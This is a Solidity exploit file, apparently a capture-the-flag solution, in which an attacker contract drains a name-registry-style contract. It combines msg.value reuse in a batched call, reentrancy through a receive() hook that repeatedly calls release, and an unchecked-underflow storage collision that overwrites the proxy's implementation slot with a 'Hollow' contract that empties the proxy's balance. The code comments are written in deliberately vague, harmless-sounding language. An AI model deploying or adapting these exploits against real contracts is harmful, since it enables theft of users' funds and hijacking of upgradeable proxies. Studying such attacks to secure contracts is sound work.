// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Book {
    function enroll(uint256 id, uint256 periods) external payable;
    function release(uint256 id) external;
    function costOf(uint256 periods) external view returns (uint256);
    function setRecord(uint256 id, string calldata area, string calldata key, bytes32 value) external;
    function doMany(bytes[] calldata calls) external payable;
}

/// Code that hands out what its proxy has.
contract Hollow {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function proxiableUUID() external pure returns (bytes32) {
        return SLOT;
    }

    function empty(address payable to) external {
        (bool done, ) = to.call{value: address(this).balance}("");
        require(done);
    }

    function raid(Hollow proxy) external {
        proxy.empty(payable(msg.sender));
    }
}

/// Takes numbers, and makes use of them.
contract Raider {
    Book private immutable book;
    address payable private immutable owner;
    uint256 private current;
    uint256 private left;

    constructor(Book target) {
        (book, owner) = (target, payable(msg.sender));
    }

    /// Several numbers for the price of one, all of which it gives up.
    function many(uint256 id, uint256 times) external payable {
        bytes[] memory calls = new bytes[](times);
        for (uint256 i = 0; i < times; i++) calls[i] = abi.encodeCall(Book.enroll, (id + i, 1));
        book.doMany{value: msg.value}(calls);
        for (uint256 i = 0; i < times; i++) book.release(id + i);
        _out();
    }

    /// Takes a number, to give it up.
    function take(uint256 id) public payable {
        book.enroll{value: msg.value}(id, 1);
        current = id;
    }

    /// Gives the number up, and again while it is being paid.
    function giveUp(uint256 times) public {
        left = times;
        book.release(current);
        _out();
    }

    /// Both in one transaction.
    function echo(uint256 id, uint256 times) external payable {
        take(id);
        giveUp(times);
    }

    /// Writes the record that stands where the proxy keeps its code.
    function rewrite(address code) external payable {
        bytes32 slot = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
        bytes32 base = keccak256(abi.encode(keccak256("records of the register"), "main", "url"));
        uint256 id;
        unchecked {
            id = uint256(slot) - uint256(base);
        }
        book.enroll{value: msg.value}(id, 1);
        book.setRecord(id, "main", "url", bytes32(uint256(uint160(code))));
    }

    receive() external payable {
        if (left == 0) return;
        left -= 1;
        book.release(current);
    }

    function _out() private {
        (bool done, ) = owner.call{value: address(this).balance}("");
        require(done);
    }
}
